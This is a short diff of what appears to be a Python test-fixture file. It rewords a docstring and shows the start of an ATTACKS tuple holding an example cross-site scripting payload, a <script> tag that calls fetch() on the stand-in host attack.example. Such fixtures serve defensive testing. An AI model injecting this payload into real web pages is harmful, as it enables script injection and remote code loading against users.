@@ -1,4 +1,4 @@
-"""Texts that would run, load, redirect, hide or mislead, were they ever more than text."""
+"""Texts that would run, load, redirect, hide or mislead if anything interpreted them."""
 
 ATTACKS = (
     "<script>document.documentElement.dataset.ran = 1; fetch('http://attack.example/script')</script>",
